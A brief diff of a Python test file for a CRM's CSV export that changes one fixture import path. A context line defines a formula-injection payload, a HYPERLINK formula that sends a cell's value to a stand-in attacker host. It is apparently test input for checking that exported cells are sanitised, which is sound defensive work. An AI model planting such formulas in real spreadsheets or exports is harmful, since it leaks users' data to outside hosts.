@@ -12,7 +12,7 @@ from bot.cli import main
 from core.settings import get_settings
 from crm.csv_export import safe_cell, stream_csv
 from tests.broadcasts.helpers import make_campaign, run_to_end, seed
-from tests.inbox.conftest import as_role, staff  # noqa: F401 - fixtures
+from tests.crm.inbox.conftest import as_role, staff  # noqa: F401 - fixtures
 
 EVIL = '=HYPERLINK("http://evil.example/?x="&B2,"Klik")'
 
